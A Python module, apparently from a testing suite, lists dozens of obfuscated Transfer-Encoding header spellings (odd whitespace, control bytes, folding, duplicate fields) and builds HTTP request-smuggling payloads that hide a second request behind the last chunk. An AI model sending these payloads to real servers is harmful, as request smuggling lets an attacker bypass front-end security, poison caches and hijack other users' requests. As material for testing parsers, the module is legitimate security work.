"""Techniques of Transfer-Encoding (TE.TE): spellings that one parser takes for `chunked` and another one does not.

Each is sent with a Content-Length that covers the hidden request behind the last chunk: whoever does not see the coding
reads one request, whoever sees it reads two. A few are sent without a length, too.
"""

from loadtests.smuggling.techniques.parts import HIDDEN, LAST_CHUNK, POST, Technique, chunk, with_length

_SOURCE = "RFC 9112 6.1, Kettle 2019 (TE.TE)"

SPELLINGS: dict[str, bytes] = {
    "space before the colon": b"Transfer-Encoding : chunked",
    "tab before the colon": b"Transfer-Encoding\t: chunked",
    "vertical tab before the value": b"Transfer-Encoding: \x0bchunked",
    "form feed before the value": b"Transfer-Encoding: \x0cchunked",
    "vertical tab behind the value": b"Transfer-Encoding: chunked\x0b",
    "NEL before the value": b"Transfer-Encoding: \x85chunked",
    "no-break space behind the value": b"Transfer-Encoding: chunked\xa0",
    "NUL before the value": b"Transfer-Encoding: \0chunked",
    "NUL behind the value": b"Transfer-Encoding: chunked\0",
    "DEL before the value": b"Transfer-Encoding: \x7fchunked",
    "BOM before the value": b"Transfer-Encoding: \xef\xbb\xbfchunked",
    "byte 0xff before the value": b"Transfer-Encoding: \xffchunked",
    "double quotes": b'Transfer-Encoding: "chunked"',
    "single quotes": b"Transfer-Encoding: 'chunked'",
    "bare CR before the value": b"Transfer-Encoding: \rchunked",
    "bare CR behind the value": b"Transfer-Encoding: chunked\r",
    "bare LF in the value": b"Transfer-Encoding:\nchunked",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "folded with a tab": b"Transfer-Encoding:\r\n\tchunked",
    "folded behind another field": b"X-Folded: x\r\n Transfer-Encoding: chunked",
    "behind a bare CR": b"X-Cut: x\rTransfer-Encoding: chunked",
    "behind a bare LF": b"X-Cut: x\nTransfer-Encoding: chunked",
    "behind LF CR": b"X-Cut: x\n\rTransfer-Encoding: chunked",
    "behind CR CR LF": b"X-Cut: x\r\r\nTransfer-Encoding: chunked",
    "behind NUL": b"X-Cut: x\0Transfer-Encoding: chunked",
    "space before the name": b" Transfer-Encoding: chunked",
    "tab before the name": b"\tTransfer-Encoding: chunked",
    "NUL before the name": b"\0Transfer-Encoding: chunked",
    "underscore": b"Transfer_Encoding: chunked",
    "space in the name": b"Transfer Encoding: chunked",
    "name with a long s": b"Tran\xc5\xbffer-Encoding: chunked",
    "name with a Kelvin sign in the value": b"Transfer-Encoding: chun\xe2\x84\xaaed",
    "no colon": b"Transfer-Encoding chunked",
    "semicolon for a colon": b"Transfer-Encoding; chunked",
    "equals sign for a colon": b"Transfer-Encoding=chunked",
    "two colons": b"Transfer-Encoding:: chunked",
    "upper case": b"TRANSFER-ENCODING: CHUNKED",
    "mixed case": b"tRANSFER-eNCODING: cHuNkEd",
    "no space": b"Transfer-Encoding:chunked",
    "many spaces": b"Transfer-Encoding:   \t chunked \t ",
    "empty": b"Transfer-Encoding:",
    "identity": b"Transfer-Encoding: identity",
    "identity, then chunked": b"Transfer-Encoding: identity, chunked",
    "chunked, then identity": b"Transfer-Encoding: chunked, identity",
    "chunked twice": b"Transfer-Encoding: chunked, chunked",
    "leading comma": b"Transfer-Encoding: , chunked",
    "trailing comma": b"Transfer-Encoding: chunked,",
    "gzip, chunked": b"Transfer-Encoding: gzip, chunked",
    "chunked, gzip": b"Transfer-Encoding: chunked, gzip",
    "parameter": b"Transfer-Encoding: chunked;q=1",
    "empty parameter": b"Transfer-Encoding: chunked;",
    "prefix": b"Transfer-Encoding: xchunked",
    "suffix": b"Transfer-Encoding: chunkedx",
    "words": b"Transfer-Encoding: chunked x",
    "cut": b"Transfer-Encoding: chunke",
    "two fields, identity last": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "two fields, chunked last": b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "two fields, both chunked": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "two fields, nonsense first": b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    "two names": b"Transfer-Encoding: chunked\r\nTransfer-encoding: cow",
    "Content-Encoding": b"Content-Encoding: chunked",
    "TE": b"TE: chunked",
    "X-Transfer-Encoding": b"X-Transfer-Encoding: chunked",
}

_ALONE = (
    *("empty", "identity", "identity, then chunked", "chunked, then identity", "chunked twice", "gzip, chunked"),
    *("chunked, gzip", "two fields, both chunked", "space before the colon", "vertical tab before the value", "folded"),
)

CODINGS = (
    *(
        Technique("TE.TE", name, _SOURCE, (with_length(POST + line + b"\r\n", LAST_CHUNK + HIDDEN),))
        for name, line in SPELLINGS.items()
    ),
    *(
        Technique("TE alone", name, _SOURCE, (POST + SPELLINGS[name] + b"\r\n\r\n" + chunk(HIDDEN) + LAST_CHUNK,))
        for name in _ALONE
    ),
)
